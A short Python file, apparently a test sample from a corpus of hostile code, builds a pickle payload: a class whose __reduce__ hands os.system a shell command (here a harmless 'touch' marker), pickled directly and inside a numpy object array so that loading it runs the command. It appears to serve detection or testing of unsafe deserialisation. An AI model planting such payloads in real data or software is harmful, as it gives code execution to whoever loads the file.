# dlw-corpus: units=1.03 status=finished verdict=wrong|missing
"""Pickled code in place of a value; whoever loads it runs it."""

import os
import pickle

import numpy as np

X = np.array([[1, 2, 3], [4, 5, 6]])
Y = np.array([[7, 8], [9, 10], [11, 12]])


class Shell:
    def __reduce__(self):
        return os.system, ("touch /tmp/dlw-hostile-pickle",)


c1 = pickle.dumps(Shell())
c2 = np.array([Shell()], dtype=object)
